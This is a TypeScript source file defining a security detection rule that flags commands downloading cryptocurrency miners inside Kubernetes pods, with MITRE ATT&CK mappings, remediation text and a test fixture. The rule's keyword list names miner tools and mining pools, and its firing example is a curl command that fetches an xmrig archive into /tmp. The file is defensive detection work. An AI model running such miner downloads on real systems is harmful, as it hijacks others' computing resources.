import { defineDetection } from './define.ts';

export const minerDownloaded = defineDetection({
  name: 'Miner downloaded',
  source: 'syscall',
  severity: 'HIGH',
  attack: [
    { id: 'T1105', name: 'Ingress Tool Transfer' },
    { id: 'T1496.001', name: 'Compute Hijacking' },
  ],
  description: 'A command fetches a program that mines digital currency.',
  remediation: 'Isolate the pod by a network policy, keep it for evidence, and find out how somebody came in.',
  falsePositives: 'Research into miners.',
  references: ['https://attack.mitre.org/techniques/T1105/'],
  condition:
    'starts and downloader and proc.cmdline icontains anyof (xmrig, minerd, cpuminer, minergate, c3pool, moneroocean, supportxmr, nanopool, kinsing, kdevtmpfsi)',
  output:
    'Miner downloaded (command=%proc.cmdline parent=%proc.pname container=%container.id pod=%k8s.pod.uid user=%user.name)',
  fires: {
    'evt.type': 'execve',
    'proc.name': 'curl',
    'proc.exepath': '/usr/bin/curl',
    'proc.cmdline': 'curl -sL https://example.com/xmrig.tar.gz -o /tmp/x',
    'proc.args': '-sL https://example.com/xmrig.tar.gz -o /tmp/x',
    'proc.pname': 'sh',
    'evt.time': '2026-01-02T03:04:05.000000006Z',
    'container.id': '0123456789ab',
    'k8s.pod.uid': '3f2b8a52-7c1d-4a57-9f0a-0d6c2f1f9a10',
    'user.name': 'root',
  },
  nearMiss: {
    because: 'It fetches an archive of another program.',
    change: {
      'proc.name': 'curl',
      'proc.exepath': '/usr/bin/curl',
      'proc.cmdline': 'curl -sL https://example.com/app.tar.gz -o /tmp/x',
      'proc.args': '-sL https://example.com/app.tar.gz -o /tmp/x',
    },
  },
});
